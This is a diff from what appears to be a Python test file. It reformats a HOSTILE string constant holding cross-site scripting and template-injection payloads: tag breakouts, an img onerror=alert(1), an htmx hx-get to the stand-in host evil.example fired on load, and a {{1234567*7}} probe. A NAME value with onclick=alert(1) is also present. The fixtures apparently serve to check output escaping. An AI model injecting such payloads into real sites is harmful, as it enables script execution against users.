@@ -19,7 +19,10 @@ if TYPE_CHECKING:
     from tests.client import Client
     from tests.pages import Page
 
-HOSTILE = "</script></title></svg>\"'><img src=x onerror=alert(1)><a hx-get=//evil.example hx-trigger=load>{{1234567*7}}"
+HOSTILE = (
+    "</script></title></svg>\"'><img src=x onerror=alert(1)>"
+    "<a hx-get=//evil.example hx-trigger=load>{{1234567*7}}"
+)
 WORDS = {"en": HOSTILE, "zh": HOSTILE}
 NAME = "=<b onclick=alert(1)>\"'&"
 
